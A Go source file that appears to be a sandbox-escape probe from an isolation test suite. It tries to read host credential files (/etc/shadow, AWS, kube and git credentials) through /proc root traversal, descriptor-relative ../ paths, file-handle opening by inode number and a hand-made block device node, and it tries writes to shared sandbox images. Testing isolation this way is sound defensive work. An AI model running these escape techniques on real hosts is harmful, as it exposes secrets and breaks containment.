package main

import (
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// places are where files of the host lie that say something.
func (t *try) places() []string {
	out := []string{t.at.TmpFile, t.at.VarTmpFile, "/etc/shadow", "/etc/machine-id"}
	if t.at.Home != "" {
		for _, f := range []string{".aws/credentials", ".netrc", ".git-credentials", ".kube/config", ".pgpass"} {
			out = append(out, filepath.Join(t.at.Home, f))
		}
	}
	return out
}

// read prints the beginning of a file.
func (t *try) read(path string) {
	f, err := os.Open(path)
	if err != nil {
		t.note(path, err)
		return
	}
	defer f.Close()
	b := make([]byte, 4096)
	n, err := f.Read(b)
	t.note(path, err)
	t.spill(b[:n])
}

// readPaths reads files of the host by their names, from the root and from above it.
func readPaths(t *try) {
	for _, p := range t.places() {
		t.read(p)
		t.read("/proc/../../../.." + p)
		t.read("/proc/1/root" + p)
		t.read("/proc/self/root" + p)
	}
	for _, dir := range []string{"/", "/ctl", "/proc", "/dev", "/sys", "/tmp"} {
		es, err := os.ReadDir(dir)
		t.say("%s holds %d entries: %v", dir, len(es), err)
	}
}

// readProc looks at the host through /proc.
func readProc(t *try) {
	for _, f := range []string{"/proc/version", "/proc/cmdline", "/proc/sys/kernel/random/boot_id", "/proc/kallsyms", "/proc/self/mountinfo"} {
		t.read(f)
	}
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	for i, d := range dirs {
		if i < 2000 {
			t.quietly(filepath.Join(d, "cmdline"))
			t.quietly(filepath.Join(d, "environ"))
		}
	}
	t.say("%d processes", len(dirs))
}

// quietly prints what a file holds of the suite's.
func (t *try) quietly(path string) {
	b, _ := os.ReadFile(path)
	if strings.Contains(string(b), "berm-canary-") {
		t.spill(append(b[:min(len(b), 4096)], '\n'))
	}
}

// readDescriptors goes up from every directory that is open, and reads every file
// that is.
func readDescriptors(t *try) {
	for _, fd := range t.s.inside.given {
		var st unix.Stat_t
		if err := unix.Fstat(fd, &st); err != nil {
			continue
		}
		t.say("descriptor %d: mode %o", fd, st.Mode)
		if st.Mode&unix.S_IFMT != unix.S_IFDIR {
			continue
		}
		for _, p := range t.places() {
			up := strings.Repeat("../", 12)
			n, err := unix.Openat(fd, up+strings.TrimPrefix(p, "/"), unix.O_RDONLY|unix.O_CLOEXEC, 0)
			t.note(fmt.Sprintf("%s from descriptor %d", p, fd), err)
			if err == nil {
				t.dump(n)
			}
		}
	}
}

// dump prints the beginning of an open file and closes it.
func (t *try) dump(fd int) {
	b := make([]byte, 4096)
	n, _ := unix.Read(fd, b)
	t.spill(b[:max(n, 0)])
	unix.Close(fd)
}

// readHandles opens files of the file system that the writable layer lies on by
// number, without a path: the root of ext2, 3 and 4 is number 2.
func readHandles(t *try) {
	for _, root := range []uint32{2, 128, 256, 64} {
		raw := []byte{byte(root), byte(root >> 8), byte(root >> 16), byte(root >> 24), 0, 0, 0, 0}
		for _, mount := range []int{t.s.inside.upper, t.s.inside.images[0]} {
			fd, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(1, raw), unix.O_RDONLY|unix.O_CLOEXEC)
			t.note(fmt.Sprintf("number %d", root), err)
			if err != nil {
				continue
			}
			for _, p := range t.places() {
				if n, err := unix.Openat(fd, strings.TrimPrefix(p, "/"), unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
					t.dump(n)
				}
			}
			unix.Close(fd)
		}
	}
}

// readDevice makes the node of the disk that the writable layer lies on, and
// reads its superblock.
func readDevice(t *try) {
	var st unix.Stat_t
	if err := unix.Fstat(t.s.inside.upper, &st); err != nil {
		t.note("the disk", err)
		return
	}
	t.note("a file system", unix.Mount("berm-"+t.nonce, "/proc", "tmpfs", 0, "size=64k"))
	for _, path := range []string{"/disk", "/proc/disk"} {
		err := unix.Mknod(path, unix.S_IFBLK|0o600, int(st.Dev))
		t.note("node "+path, err)
		fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			t.note("open "+path, err)
			continue
		}
		b := make([]byte, 2048)
		n, err := unix.Pread(fd, b, 0)
		t.note("read "+path, err)
		t.say("%s", hex.EncodeToString(b[:max(n, 0)]))
		unix.Close(fd)
	}
}

// writeTemplates changes the images that other sandboxes start from.
func writeTemplates(t *try) {
	for _, fd := range t.s.inside.images {
		var st unix.Stat_t
		if err := unix.Fstat(fd, &st); err != nil {
			continue
		}
		// Where the wall is missing, what is written is what was there.
		b := make([]byte, 16)
		unix.Pread(fd, b, 0)
		_, err := unix.Pwrite(fd, b, 0)
		t.note("write", err)
		t.note("grow", unix.Ftruncate(fd, st.Size))
		t.note("mode", unix.Fchmod(fd, st.Mode&0o7777))
		t.note("owner", unix.Fchown(fd, int(st.Uid), int(st.Gid)))
		_, err = unix.Mmap(fd, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
		t.note("map for writing", err)
	}
}
